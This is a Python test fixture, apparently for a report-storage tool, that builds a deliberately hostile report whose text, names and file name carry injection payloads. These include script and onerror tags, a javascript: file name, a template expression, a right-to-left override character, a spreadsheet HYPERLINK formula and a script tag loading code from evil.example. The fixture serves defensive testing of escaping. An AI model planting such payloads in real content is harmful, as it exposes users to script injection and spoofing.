"""A report by somebody who wants to harm whoever reads it: its headline, names, file name and words are attacks."""

from dataclasses import fields, is_dataclass, replace
from typing import Any

from rejoinder.shapes import Verdict
from rejoinder.shapes.dossier import NewReport
from tests.runners.talks import Told, make_report

SCRIPT = "<script>alert(1)</script>"
FORMULA = '=HYPERLINK("http://evil.example","x")'
TURNED = "Jor\u202ean Halme"
IMAGE = "<img src=x onerror=alert(1)>"
FILE_NAME = 'javascript:alert(1)//"><svg onload=alert(1)>.txt'
AGENCY = "<b>Agency</b>' onmouseover='alert(1)"

TEXT = (
    f"{SCRIPT} Vellia asks Tarsk to open the pass\n"
    "Joran Halme said that Vellia wants {{ 7*7 }} tolls & <b>no</b> more. He asked Ines Dovrak to name a day for talks.\n"
    "Tarsk cannot accept this </mark></article><script src=//evil.example/x.js></script>, Ines Dovrak said."
)

HOSTILE = Told(
    TEXT,
    "2032-08-20",
    points={"open the pass": f"opening {SCRIPT}"},
    answers={"Tarsk cannot accept this </mark></article><script src=//evil.example/x.js>": Verdict.NOT_ACCEPTED},
    requests={"name a day for talks": f"a day {IMAGE}"},
    statements={"Vellia wants {{ 7*7 }} tolls & <b>no</b> more": "Joran Halme", "Tarsk cannot accept this": "Ines Dovrak"},
)

NAMES = {"Ines Dovrak": FORMULA, "Joran Halme": TURNED, "Vellia": IMAGE, "Vellian Press Agency": AGENCY}


def hostile_report() -> NewReport:
    """Return the report as the store takes it in."""
    new: NewReport = _renamed(make_report(HOSTILE))
    return replace(new, report=replace(new.report, name=FILE_NAME, side=IMAGE))


def _renamed(value: Any) -> Any:
    """Return a shape in which each name is another, however deep it lies; the text stays."""
    if isinstance(value, str):
        return NAMES.get(value, value)
    if type(value) is tuple:
        return tuple(_renamed(item) for item in value)
    if is_dataclass(value) and not isinstance(value, type):
        return replace(value, **{field.name: _renamed(getattr(value, field.name)) for field in fields(value) if field.init})
    return value
